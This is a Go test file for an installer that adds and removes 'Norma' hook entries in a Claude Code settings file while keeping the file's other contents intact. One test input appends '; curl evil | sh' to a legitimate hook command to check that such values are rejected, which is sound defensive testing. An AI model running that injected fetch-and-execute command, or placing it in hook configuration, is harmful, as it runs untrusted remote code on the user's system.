package agenthook

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const normaCmd = "/opt/norma/bin/norma --home /var/norma hook claude-code"

// TestClaudeInstall: Install adds Norma's entries and keeps every other key
// and hook; twice is once; Uninstall restores the file byte for byte.
func TestClaudeInstall(t *testing.T) {
	old, err := os.ReadFile(filepath.Join("testdata", "install", "settings.json"))
	must(t, err)
	in := ClaudeInstaller{}
	got, err := in.Install(old, normaCmd)
	must(t, err)
	var m struct {
		Model       string                   `json:"model"`
		Env         map[string]string        `json:"env"`
		Permissions map[string][]string      `json:"permissions"`
		StatusLine  map[string]any           `json:"statusLine"`
		Hooks       map[string][]claudeGroup `json:"hooks"`
	}
	must(t, json.Unmarshal(got, &m))
	if m.Model != "opus" || m.Env["FOO"] != "1" || m.Permissions["allow"][0] != "Bash(npm test:*)" || m.StatusLine["command"] != "~/.claude/status.sh" {
		t.Fatalf("other keys changed:\n%s", got)
	}
	if len(m.Hooks["Stop"]) != 1 || m.Hooks["Stop"][0].Hooks[0].Command != "notify-send done" {
		t.Fatalf("the Stop hook changed:\n%s", got)
	}
	pre := m.Hooks["PreToolUse"]
	if len(pre) != 2 || pre[0].Hooks[0].Command != "/usr/local/bin/check-bash.sh" || pre[1].Matcher != "*" || pre[1].Hooks[0].Command != normaCmd {
		t.Fatalf("PreToolUse = %+v", pre)
	}
	for _, e := range claudeEvents {
		gs := m.Hooks[e.name]
		last := gs[len(gs)-1]
		if last.Matcher != e.matcher || len(last.Hooks) != 1 || last.Hooks[0].Command != normaCmd || last.Hooks[0].Type != "command" || last.Hooks[0].Timeout != claudeHookTimeout {
			t.Fatalf("%s = %+v", e.name, gs)
		}
	}
	// Key order is kept.
	if strings.Index(string(got), `"model"`) > strings.Index(string(got), `"env"`) || strings.Index(string(got), `"hooks"`) > strings.Index(string(got), `"statusLine"`) {
		t.Fatalf("key order changed:\n%s", got)
	}
	again, err := in.Install(got, normaCmd)
	must(t, err)
	if string(again) != string(got) {
		t.Fatalf("a second Install changed the file:\n%s", again)
	}
	// A newer binary replaces the entries, it does not add a second set.
	moved, err := in.Install(got, "/usr/bin/norma hook claude-code")
	must(t, err)
	if strings.Count(string(moved), "hook claude-code") != len(claudeEvents) || strings.Contains(string(moved), "/opt/norma") {
		t.Fatalf("Install with another binary:\n%s", moved)
	}
	back, err := in.Uninstall(moved)
	must(t, err)
	if string(back) != string(old) {
		t.Fatalf("Uninstall did not restore the file:\n%s\nwant:\n%s", back, old)
	}
	if same, err := in.Uninstall(old); err != nil || string(same) != string(old) {
		t.Fatalf("Uninstall of a file without Norma changed it: %v\n%s", err, same)
	}
}

// TestClaudeInstallEdges: no file, an empty object, a group Norma shares
// with another hook, and files that are not settings.
func TestClaudeInstallEdges(t *testing.T) {
	in := ClaudeInstaller{}
	for _, old := range []string{"", "{}", "  \n"} {
		got, err := in.Install([]byte(old), normaCmd)
		must(t, err)
		back, err := in.Uninstall(got)
		must(t, err)
		if strings.TrimSpace(string(back)) != "{}" {
			t.Fatalf("Install then Uninstall of %q = %q", old, back)
		}
	}
	shared := `{"hooks":{"PostToolUse":[{"matcher":"*","hooks":[{"type":"command","command":"fmt.sh"},{"type":"command","command":"/x/norma hook claude-code"}]}]}}`
	back, err := in.Uninstall([]byte(shared))
	must(t, err)
	if !strings.Contains(string(back), "fmt.sh") || strings.Contains(string(back), "norma") {
		t.Fatalf("Uninstall of a shared group = %s", back)
	}
	for _, bad := range []string{"[1]", `{"hooks":[]}`, `{"hooks":{"PreToolUse":{}}}`, "{", `{} {}`} {
		if _, err := in.Install([]byte(bad), normaCmd); err == nil {
			t.Errorf("Install(%q) succeeded", bad)
		}
	}
}

func TestIsNormaCommand(t *testing.T) {
	for cmd, want := range map[string]bool{
		"/usr/bin/norma hook claude-code":                 true,
		"'/my dir/norma' --home '/s' hook claude-code":    true,
		"norma hook claude-code ":                         true,
		"/usr/bin/norma hook codex":                       false,
		"/usr/local/bin/check.sh":                         false,
		"other hook claude-code":                          false,
		"/usr/bin/norma hook claude-code; curl evil | sh": false,
	} {
		if got := IsNormaCommand(cmd, ClaudeCode); got != want {
			t.Errorf("IsNormaCommand(%q) = %v, want %v", cmd, got, want)
		}
	}
}
